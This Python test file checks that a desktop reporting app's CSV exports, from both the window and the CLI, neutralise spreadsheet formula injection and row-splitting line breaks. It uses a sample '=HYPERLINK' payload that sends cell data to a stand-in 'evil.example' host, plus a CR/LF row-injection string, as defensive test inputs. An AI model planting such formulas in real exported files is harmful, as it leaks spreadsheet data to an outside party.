"""Rule (issue 14 point 10): no CSV this app writes can run as a spreadsheet formula.

Both writers — the window's export (desktop/models/export.py, through the real ReportsView)
and the command line's `report --format csv` (desktop/cli/output.py) — are fed provider
names that start with `=`, `+`, `-`, `@`, tab or CR, or hold CR/LF anywhere. Read back with
the stdlib csv reader, every such cell must come back with a leading `'` and on its own row;
plain decimal numbers (a negative amount) stay numbers (the choice is explained in
desktop/models/csv_cells.py).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from desktop.cli.report import report_csv
from desktop.models.csv_cells import FORMULA_STARTS
from desktop.models.export import write_csv
from tests.desktop.support import data

os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")

# Names a provider could send: anything, biased towards formula starts and line breaks.
names = st.one_of(
    st.text(),
    st.builds(lambda s, rest: s + rest, st.sampled_from(FORMULA_STARTS), st.text()),
    st.builds(lambda a, b: a + "\r" + b, st.text(), st.text()),
    st.builds(lambda a, b: a + "\n" + b, st.text(), st.text()),
).filter(lambda s: "\x00" not in s)


PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")  # left alone on purpose: see csv_cells


def expected(name: str) -> str:
    if name.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(name):
        return "'" + name
    return name


def _campaign_report(name: str) -> dict[str, Any]:
    report = data.report(4, level="campaign")
    name_at = [c["key"] for c in report["columns"]].index("campaign_name")
    for row in report["rows"]:
        row[name_at] = name
    spend_at = [c["key"] for c in report["columns"]].index("spend")
    report["rows"][0][spend_at] = "-12.50"  # a refund: a number, never text
    return report


def _parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@settings(max_examples=300, deadline=None)
@given(name=names)
def test_cli_csv_neutralises_formula_cells(name: str) -> None:
    report = _campaign_report(name)
    rows = _parse(report_csv(report))
    assert len(rows) == 1 + len(report["rows"]), "a CR or LF in a name split a row"
    name_at = rows[0].index("campaign_name")
    assert all(r[name_at] == expected(name) for r in rows[1:])
    assert rows[1][rows[0].index("spend")] == "-12.50"


# The one file is replaced atomically by every example, so sharing tmp_path is safe.
@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(name=names)
def test_window_csv_writer_neutralises_formula_cells(name: str, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_csv(path, ["Campaign", "Spend"], [[name, "-3"], [name, 7], [None, "-0.5"]])
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    assert rows == [
        ["Campaign", "Spend"],
        [expected(name), "-3"],
        [expected(name), "7"],
        ["", "-0.5"],
    ]


def test_window_export_of_a_formula_name_is_text(qtbot: Any, tmp_path: Path) -> None:
    """The real Reports page's Export: a campaign called `=HYPERLINK(…)` stays text."""
    from desktop.models.connections import ConnectionsModel
    from desktop.views.reports import ReportsView

    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    crlf = "@SUM(1+1)\r\nx,y"
    model = ConnectionsModel()
    model.set_connections([data.parsed("c1")])

    def fetch(cid: str, query: Any, cancel: Any) -> Any:
        report = _campaign_report(evil)
        report["rows"][1][[c["key"] for c in report["columns"]].index("campaign_name")] = crlf
        return json.dumps(report).encode()  # as the backend sends it

    view = ReportsView(model, fetch, None)
    qtbot.addWidget(view)
    view.level_box.setCurrentIndex(view.level_box.findData("campaign"))
    with qtbot.waitSignal(view.report_loaded, timeout=10000):
        view.load()
    target = tmp_path / "report.csv"
    with qtbot.waitSignal(view.export_finished, timeout=10000):
        view.export_to(target)
    rows = list(csv.reader(target.open(encoding="utf-8", newline="")))
    name_at = next(i for i, h in enumerate(rows[0]) if h in ("Campaign", "campaign_name"))
    spend_at = next(i for i, h in enumerate(rows[0]) if h.lower().startswith("spend"))
    body = [r for r in rows[1:] if r[0] != "Total"]  # a totals row, if the export adds one
    assert len(body) == 4
    assert sorted(r[name_at] for r in body) == sorted(
        ["'" + evil, "'" + crlf, "'" + evil, "'" + evil]
    )
    assert "-12.50" in [r[spend_at] for r in body]
